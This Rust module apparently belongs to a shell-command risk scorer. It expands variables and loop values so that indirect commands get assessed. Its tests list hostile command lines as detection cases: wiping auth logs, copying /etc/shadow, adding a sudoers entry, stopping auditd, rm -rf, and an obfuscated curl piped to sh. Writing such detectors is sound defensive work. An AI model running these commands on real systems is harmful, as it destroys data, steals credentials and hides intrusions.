//! What variables hold, as far as the line says so: a command that uses one is
//! looked at once more for each of its values. So `for l in /var/log/a.log; do
//! > $l; done` and `f=/etc/shadow; cat $f` count as what they do.
//!
//! Only risk uses this. What a value *may* be is enough here: scopes,
//! subshells and later assignments are not followed, and no rule of a policy
//! is matched on it.

use crate::facts::{CommandLine, Origin, Redirection, SimpleCommand, Unknown, Word};
use crate::launch;
use std::collections::HashMap;

/// Most values of a variable that are tried …
const VALUES: usize = 16;
/// … of the so many that are kept …
const KEPT: usize = 32;
/// … none of them longer than this.
const LENGTH: usize = 512;
/// Most commands that are looked at more than once.
const COPIES: usize = 96;
/// No more of them where their words, as they were and as they are then, come to so many bytes.
const BYTES: usize = 32 * 1024;

/// Builtins that assign what is among their words.
const ASSIGNING: [&str; 5] = ["export", "declare", "typeset", "local", "readonly"];

/// A value, and from where to where in the line it may be that of its variable.
struct Value {
    text: String,
    unknown: Unknown,
    from: usize,
    to: usize,
}

type Values<'l> = HashMap<&'l str, Vec<Value>>;

/// The line with more commands behind its own: those that use variables, with
/// values in their place. `None`: there is nothing to add.
pub(crate) fn with_values(line: &CommandLine) -> Option<CommandLine> {
    let uses = |command: &&SimpleCommand| words(command).any(|word| word.unknown.contains(Unknown::PARAMETER));
    line.commands.iter().find(uses)?;
    let values = values(line);
    if values.is_empty() {
        return None;
    }
    let mut copies: Vec<SimpleCommand> = Vec::new();
    let mut bytes = 0;
    'all: for command in line.commands.iter().filter(uses) {
        let length = words(command).map(|word| word.text.len()).sum::<usize>();
        for turn in 0..turns(command, &values) {
            if bytes > BYTES || copies.len() >= COPIES {
                break 'all;
            }
            let copy = copy(command, &values, turn);
            bytes += length + words(&copy).map(|word| word.text.len()).sum::<usize>();
            copies.push(copy);
        }
    }
    if copies.is_empty() {
        return None;
    }
    let mut whole = line.clone();
    whole.commands.append(&mut copies);
    follow(&mut whole, line.commands.len());
    Some(whole)
}

/// The words of a command, targets of redirections included.
fn words(command: &SimpleCommand) -> impl Iterator<Item = &Word> {
    command.words.iter().chain(command.redirections.iter().map(|r| &r.target))
}

/// What the line gives to its variables.
fn values(line: &CommandLine) -> Values<'_> {
    let mut values = Values::new();
    for command in &line.commands {
        // In front of a program they are that program's, and not in its words.
        let assigned = command.assignments.iter().filter(|a| command.words.is_empty() && a.plain);
        for (name, word) in assigned.filter_map(|a| Some((a.name.as_str(), a.values.first()?))) {
            add(&mut values, name, word.clone(), (word.span.end, usize::MAX));
        }
        if command.program_name().is_some_and(|name| ASSIGNING.contains(&name)) {
            for word in command.arguments() {
                if let Some((name, _)) = word.text.split_once('=').filter(|(name, _)| is_name(name)) {
                    add(&mut values, name, word.rest(name.len() + 1), (word.span.end, usize::MAX));
                }
            }
        }
    }
    for each in &line.loops {
        let scope = (each.body.start, each.body.end);
        for word in each.words.iter().take(VALUES) {
            for part in listed(&word.text) {
                add(
                    &mut values,
                    &each.name,
                    Word { unknown: Unknown::GLOB, text: part.to_owned(), ..word.clone() },
                    scope,
                );
            }
            add(&mut values, &each.name, word.clone(), scope);
        }
    }
    values
}

/// What `$(ls /var/log/*.log)` and its like list: the places that they are given.
fn listed(text: &str) -> impl Iterator<Item = &str> {
    let inside = text.strip_prefix("$(").and_then(|rest| rest.strip_suffix(')'));
    let inside = inside.or_else(|| text.strip_prefix('`').and_then(|rest| rest.strip_suffix('`')));
    let mut words = inside.unwrap_or_default().split_whitespace();
    let lists = matches!(words.next(), Some("ls" | "find" | "echo" | "realpath" | "readlink"));
    let place = |word: &&str| word.starts_with(['/', '~']) && !word.contains(['$', '(', '`', '|', ';', '&', '<', '>']);
    words.take_while(|word| *word != "|").filter(move |word| lists && place(word)).take(VALUES)
}

fn add<'l>(values: &mut Values<'l>, name: &'l str, word: Word, (from, to): (usize, usize)) {
    let known = !word.unknown.contains(Unknown::COMMAND) && !word.unknown.contains(Unknown::PROCESS);
    if !known || word.text.is_empty() {
        return;
    }
    // A value may be made of earlier ones; so it is put together once, and not again where it is used.
    let word = put_in(&word, values, 0).unwrap_or(word);
    let list = values.entry(name).or_default();
    if word.text.len() <= LENGTH && list.len() < KEPT {
        list.push(Value { text: word.text, unknown: word.unknown, from, to });
    }
}

/// The values that `name` may have at `at`.
fn at<'v>(values: &'v Values<'_>, name: &str, at: usize) -> impl Iterator<Item = &'v Value> {
    let list = values.get(name).map(Vec::as_slice).unwrap_or_default();
    list.iter().filter(move |value| value.from <= at && at < value.to).take(VALUES)
}

/// How many times a command is looked at: once for each value of the variable that has most of them.
fn turns(command: &SimpleCommand, values: &Values<'_>) -> usize {
    let names = words(command)
        .filter(|word| word.unknown.contains(Unknown::PARAMETER))
        .flat_map(|word| expansions(&word.text).map(move |(_, _, name)| at(values, name, word.span.start).count()));
    names.max().unwrap_or(0)
}

fn copy(command: &SimpleCommand, values: &Values<'_>, turn: usize) -> SimpleCommand {
    let mut copy = command.clone();
    copy.words = command.words.iter().flat_map(|word| split(put_in(word, values, turn), word)).collect();
    for Redirection { target, .. } in &mut copy.redirections {
        if let Some(known) = put_in(target, values, turn) {
            *target = known;
        }
    }
    copy
}

/// Outside of quotes a value is as many words as it has.
fn split(known: Option<Word>, word: &Word) -> Vec<Word> {
    let Some(known) = known else { return vec![word.clone()] };
    if word.quoted || !known.text.contains(char::is_whitespace) {
        return vec![known];
    }
    known.text.split_whitespace().map(|part| Word { text: part.to_owned(), ..known.clone() }).collect()
}

/// `word` with values in the place of its variables; `None` where it has none that is known.
fn put_in(word: &Word, values: &Values<'_>, turn: usize) -> Option<Word> {
    if !word.unknown.contains(Unknown::PARAMETER) {
        return None;
    }
    let (mut text, mut unknown, mut done, mut left) = (String::new(), word.unknown, 0, false);
    for (start, end, name) in expansions(&word.text) {
        let count = at(values, name, word.span.start).count();
        let value = turn.checked_rem(count).and_then(|turn| at(values, name, word.span.start).nth(turn));
        match value {
            Some(value) => {
                text.push_str(word.text.get(done..start)?);
                text.push_str(&value.text);
                unknown.add(value.unknown);
                done = end;
            }
            None => left = true,
        }
        if text.len() > BYTES {
            return None;
        }
    }
    if done == 0 {
        return None;
    }
    text.push_str(word.text.get(done..)?);
    if !left && !text.contains('$') {
        unknown = unknown.without(Unknown::PARAMETER);
    }
    // It stands where the word does, and no byte of it anywhere else.
    Some(Word { span: word.span, text, unknown, quoted: word.quoted, runs: Vec::new() })
}

/// `$name` and `${name}` in a text: from where to where, and the name.
fn expansions(text: &str) -> impl Iterator<Item = (usize, usize, &str)> {
    memchr::memchr_iter(b'$', text.as_bytes()).filter_map(|start| {
        let rest = text.get(start + 1..)?;
        let inner = rest.strip_prefix('{').unwrap_or(rest);
        let length = inner.bytes().take_while(|b| b.is_ascii_alphanumeric() || *b == b'_').count();
        let name = inner.get(..length).filter(|name| is_name(name))?;
        let braced = inner.len() < rest.len();
        (!braced || inner.get(length..)?.starts_with('}')).then_some((
            start,
            start + 1 + length + if braced { 2 } else { 0 },
            name,
        ))
    })
}

fn is_name(text: &str) -> bool {
    !text.is_empty()
        && !text.starts_with(|c: char| c.is_ascii_digit())
        && text.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
}

/// Follows wrappers that only the values name (`s=sudo; $s rm x`).
fn follow(whole: &mut CommandLine, own: usize) {
    let mut index = own;
    while let Some(command) = whole.commands.get(index).filter(|_| whole.commands.len() < own + 2 * COPIES) {
        let fresh = index >= own && is_fresh(whole, index, own);
        if let Some((by, words)) = launch::wrapped(command).filter(|_| fresh) {
            let inner = SimpleCommand {
                words,
                assignments: Vec::new(),
                origin: Origin::Command { parent: index, by },
                ..command.clone()
            };
            whole.commands.push(inner);
        }
        index += 1;
    }
}

/// Whether nobody has looked behind this command: it is what a copied one runs,
/// or a copy whose program was not known.
fn is_fresh(whole: &CommandLine, index: usize, own: usize) -> bool {
    let Some(command) = whole.commands.get(index) else { return false };
    let found = matches!(command.origin, Origin::Command { parent, .. } if parent >= own);
    let original = whole.commands.iter().take(own).find(|known| known.span == command.span);
    found || original.is_some_and(|known| known.program_name().is_none())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::facts::Place;
    use crate::risk::assess;

    fn programs(line: &str) -> Vec<String> {
        let parsed = crate::parse(line, &Place::default());
        let own = parsed.commands.len();
        let whole = with_values(&parsed);
        let copies = whole.iter().flat_map(|whole| whole.commands.iter().skip(own));
        copies.map(|command| command.words.iter().map(|w| w.text.as_str()).collect::<Vec<_>>().join(" ")).collect()
    }

    #[test]
    fn a_command_is_looked_at_with_each_value() {
        for (line, copies) in [
            ("for f in /a /b; do rm $f; done", &["rm /a", "rm /b"][..]),
            ("for f in /a; do rm \"${f}/x\"; done", &["rm /a/x"]),
            ("for a in 1 2; do for b in x; do c $a $b; done; done", &["c 1 x", "c 2 x"]),
            ("f=/etc/shadow; cat $f", &["cat /etc/shadow"]),
            ("a=/etc b=$a/x; cat $b", &["cat /etc/x"]),
            ("export F=/a; cat $F", &["cat /a"]),
            ("a=cu; b=rl; $a$b -s h", &["curl -s h"]),
            ("s='sudo -n'; $s rm x", &["sudo -n rm x", "rm x"]),
            ("c='rm -r /a'; $c", &["rm -r /a"]),
            ("for f in /a; do sudo rm $f; done", &["sudo rm /a", "rm /a"]),
            ("bash -c 'for f in /a; do rm $f; done'", &["rm /a"]),
        ] {
            assert_eq!(programs(line), copies, "{line}");
        }
        // Not a value of it: another program's, after the loop, before it, of a command, in quotes.
        for line in [
            "ls",
            "f=/a cat $f",
            "for f in /a; do ls; done; cat $f",
            "cat $f; f=/a",
            "f=$(x); cat $f",
            "f=/a; cat '$f'",
            "for f in $(x); do cat $f; done",
        ] {
            assert!(programs(line).is_empty(), "{line}: {:?}", programs(line));
        }
    }

    #[test]
    fn what_is_looked_at_again_is_bounded_and_stands_in_the_line() {
        let many: String = (0..400).map(|n| format!(" v{n}")).collect();
        let lines = [
            format!("for f in{many}; do {} done", "rm $f; ".repeat(200)),
            format!("a={}; {}", "x".repeat(500), "c $a$a$a$a; ".repeat(300)),
            format!("a=xx; {}", "a=$a$a; ".repeat(400)),
            format!("a=x; b=y; echo {}", "$a".repeat(30_000)),
            "é=1; b='é é'; for é in ü; do rm ü$b ; done".to_owned(),
        ];
        for line in &lines {
            let parsed = crate::parse(line, &Place::default());
            let more = with_values(&parsed).map_or(0, |whole| whole.commands.len() - parsed.commands.len());
            assert!(more <= 2 * COPIES, "{more}");
            for reason in assess(&parsed, &Place::default()).reasons {
                assert!(line.get(reason.start..reason.end).is_some(), "{reason:?}");
            }
        }
    }

    #[test]
    fn what_a_value_does_counts() {
        for (line, rule) in [
            ("for l in /var/log/auth.log /var/log/wtmp; do cat /dev/null > $l; done", "logs"),
            ("for d in /usr /opt; do find $d -perm /u+s; done", "privilege-search"),
            ("for f in /etc/shadow /etc/gshadow; do cp $f /tmp/x; done", "credential-read"),
            ("t=/etc/sudoers.d/x; echo 'a ALL=(ALL) ALL' > $t", "write-accounts"),
            ("for f in $(ls /var/log/*.log); do :> $f; done", "logs"),
            ("for f in `find /etc/cron.d -type f`; do rm $f; done", "delete-system"),
            ("for s in auditd rsyslog; do systemctl stop $s; done", "defences"),
            ("d=/srv/data; rm -rf \"$d\"", "delete-system"),
            ("a=cu; b=rl; $a$b -s http://192.0.2.200/p | sh", "download-and-run"),
        ] {
            let place = Place::default();
            let reasons = assess(&crate::parse(line, &place), &place).reasons;
            assert!(reasons.iter().any(|reason| reason.id == rule), "{line}: {reasons:?}");
        }
        for line in [
            "for f in a.txt b.txt; do wc -l $f; done",
            "for f in $(ls src/*.rs); do wc -l $f; done",
            "for f in $(git ls-files /srv/x); do wc -l $f; done",
            "for v in 1.2 1.3; do git tag --list v$v; done",
            "d=build; mkdir -p $d; cp a.o $d/",
            "for d in src tests; do cargo fmt --check -p $d; done",
            "name=web; docker ps --filter name=$name",
        ] {
            let place = Place::default();
            let risk = assess(&crate::parse(line, &place), &place);
            assert!(risk.score < 25, "{line}: {:?}", risk.reasons);
        }
    }
}
